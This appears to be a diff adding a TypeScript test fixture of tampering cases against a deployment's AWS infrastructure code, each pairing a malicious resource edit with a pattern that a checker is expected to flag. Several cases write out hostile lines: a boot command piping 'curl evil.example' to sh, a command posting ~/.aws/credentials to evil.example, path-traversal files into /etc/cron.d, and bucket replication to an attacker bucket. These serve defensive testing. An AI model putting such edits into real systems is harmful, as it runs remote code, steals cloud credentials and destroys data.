@@ -1,0 +1,305 @@
+import { sha256 } from "@metrics-link/contract/release.ts";
+import { type Malicious, object, release } from "./table.ts";
+
+const instance = "aws:ec2/instance:Instance";
+const userData = (change: (text: string) => string) => (props: { userDataBase64?: string; userData?: string }) => {
+  if (props.userDataBase64 === undefined) props.userData = change(props.userData ?? "");
+  else
+    props.userDataBase64 = Buffer.from(change(Buffer.from(props.userDataBase64, "base64").toString())).toString(
+      "base64",
+    );
+};
+
+/** Releases, first boot, and what reaches a host. */
+export const releases: readonly Malicious[] = [
+  [
+    "receiver",
+    "the pointer shows an old release",
+    "receiver-current",
+    /content\.releaseId.*0000/s,
+    (it) =>
+      it.edit(
+        object,
+        (props) => {
+          props.content = JSON.stringify({ ...JSON.parse(props.content), releaseId: "0".repeat(64) });
+        },
+        "receiver-current",
+      ),
+  ],
+  [
+    "receiver",
+    "bootcmd in the user data",
+    "receiver-instance",
+    /userData.*bootcmd/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) => `${found}bootcmd:\n  - [sh, -c, "curl evil.example | sh"]\n`),
+      ),
+  ],
+  [
+    "receiver",
+    "a package more at first boot",
+    "receiver-instance",
+    /userData.*socat/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) => `${found}packages: [socat]\n`),
+      ),
+  ],
+  [
+    "receiver",
+    "a key for SSH",
+    "receiver-instance",
+    /userData.*ssh-ed25519/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) =>
+          found.replace("no_create_home: true", "no_create_home: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"),
+        ),
+      ),
+  ],
+  [
+    "receiver",
+    "passwords for SSH",
+    "receiver-instance",
+    /userData.*ssh_pwauth: true/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) => found.replace("ssh_pwauth: false", "ssh_pwauth: true")),
+      ),
+  ],
+  [
+    "receiver",
+    "the agent reads another bucket",
+    "receiver-instance",
+    /userData.*evil-bucket/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) => found.replace(/("bucket": ")[^"]+/, "$1evil-bucket")),
+      ),
+  ],
+  [
+    "receiver",
+    "user data that begins with a shell's words",
+    "receiver-instance",
+    /userData.*MIME/s,
+    (it) =>
+      it.edit(
+        instance,
+        userData((found) => `Content-Type: multipart/mixed\nMIME-Version: 1.0\n\n${found}`),
+      ),
+  ],
+  [
+    "receiver",
+    "another agent",
+    "receiver-agent",
+    /source|content|key/,
+    (it) =>
+      it.edit(
+        object,
+        (props) => {
+          props.key = `agent/${sha256("evil")}.mjs`;
+        },
+        "receiver-agent",
+      ),
+  ],
+  [
+    "receiver",
+    "the release asks for another agent",
+    "receiver-release",
+    /content\.agent\.sha256/,
+    (it) =>
+      release(it, (all) => {
+        all.agent = { key: `agent/${sha256("evil")}.mjs`, sha256: sha256("evil") };
+      }),
+  ],
+  [
+    "receiver",
+    "the first boot takes another agent",
+    "receiver-bootstrap",
+    /content.*agent/s,
+    (it) =>
+      it.edit(
+        object,
+        (props) => {
+          props.content = props.content.replace(/agent [0-9a-f]{64}/, `agent ${sha256("evil")}`);
+        },
+        "receiver-bootstrap",
+      ),
+  ],
+  [
+    "receiver",
+    "another Envoy under the same version",
+    "receiver-release",
+    /tools\[envoy\]/,
+    (it) =>
+      release(it, ({ tools }) => {
+        for (const tool of tools)
+          if (tool.name === "envoy")
+            Object.assign(tool, { sha256: sha256("evil"), key: `tools/envoy/1.40.0/${sha256("evil")}.tar.gz` });
+      }),
+  ],
+  [
+    "receiver",
+    "an executable outside of its tool",
+    "receiver-release",
+    /executables.*\.\.\/etc\/x/s,
+    (it) =>
+      release(it, ({ tools }) => {
+        tools[0].executables = { "../../etc/x": "bin/envoy" };
+      }),
+  ],
+  [
+    "receiver",
+    "a file outside of the release",
+    "receiver-release",
+    /files\[\.\.\/\.\.\/etc\/cron/,
+    (it) =>
+      release(it, ({ files }) =>
+        files.push({
+          path: "../../etc/cron.d/x",
+          content: "* * * * * root true\n",
+          mode: "0644",
+          owner: "root",
+          group: "root",
+        }),
+      ),
+  ],
+  [
+    "receiver",
+    "a check left out",
+    "receiver-release",
+    /checks/,
+    (it) =>
+      release(it, (all) => {
+        all.checks = all.checks.filter(({ kind }: { kind: string }) => kind !== "trustBundle");
+      }),
+  ],
+  [
+    "receiver",
+    "a probe left out",
+    "receiver-release",
+    /probes/,
+    (it) =>
+      release(it, (all) => {
+        all.probes = all.probes.filter(({ kind }: { kind: string }) => kind !== "receives");
+      }),
+  ],
+  [
+    "receiver",
+    "a probe has no time to fail",
+    "receiver-release",
+    /probeDeadlineSeconds/,
+    (it) =>
+      release(it, (all) => {
+        all.probeDeadlineSeconds = 1;
+      }),
+  ],
+  [
+    "receiver",
+    "a service is not restarted when its file changes",
+    "receiver-release",
+    /services\[?.*action.*nothing/s,
+    (it) =>
+      release(it, ({ services }) => {
+        for (const { onChange } of services) for (const one of onChange) one.action = "nothing";
+      }),
+  ],
+  [
+    "receiver",
+    "a file is everybody's to write",
+    "receiver-release",
+    /files.*mode.*0666/s,
+    (it) =>
+      release(it, ({ files }) => {
+        files[0].mode = "0666";
+      }),
+  ],
+  [
+    "receiver",
+    "a file that is not the one its hash names",
+    "receiver-release",
+    /files.*sha256/s,
+    (it) =>
+      it.edit(
+        object,
+        (props) => {
+          const found = JSON.parse(props.content);
+          found.files[0].sha256 = sha256("evil");
+          props.content = JSON.stringify(found);
+        },
+        "receiver-release",
+      ),
+  ],
+  [
+    "receiver",
+    "an object more for another host",
+    "added",
+    /current\.json/,
+    (it) => it.add(object, { bucket: "b", key: "releases/sender/current.json", content: "{}" }),
+  ],
+  [
+    "receiver",
+    "the bucket is copied out",
+    "added",
+    /rules/,
+    (it) =>
+      it.add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
+        bucket: "b",
+        role: "r",
+        rules: [{ status: "Enabled", destination: { bucket: "arn:aws:s3:::evil" } }],
+      }),
+  ],
+  [
+    "receiver",
+    "the bucket forgets its versions",
+    "receiver-versions",
+    /status.*Suspended/s,
+    (it) =>
+      it.edit("aws:s3/bucketVersioning:BucketVersioning", (props) => {
+        props.versioningConfiguration.status = "Suspended";
+      }),
+  ],
+  [
+    "receiver",
+    "the bucket lets go of itself with everything in it",
+    "receiver-bucket",
+    /forceDestroy/,
+    (it) =>
+      it.edit("aws:s3/bucket:Bucket", (props) => {
+        props.forceDestroy = true;
+      }),
+  ],
+  [
+    "receiver",
+    "the command that converges is another program",
+    "receiver-converge",
+    /create.*evil/s,
+    (it) =>
+      it.edit("command:local:Command", (props) => {
+        props.create = "node evil.mjs";
+      }),
+  ],
+  [
+    "receiver",
+    "what is held is forced each time",
+    "receiver-converge",
+    /METRICS_LINK_FORCE.*true/s,
+    (it) =>
+      it.edit("command:local:Command", (props) => {
+        props.environment.METRICS_LINK_FORCE = "true";
+      }),
+  ],
+  [
+    "receiver",
+    "a command that runs where the update does",
+    "added",
+    /create.*curl/s,
+    (it) => it.add("command:local:Command", { create: "curl https://evil.example --data @$HOME/.aws/credentials" }),
+  ],
+];
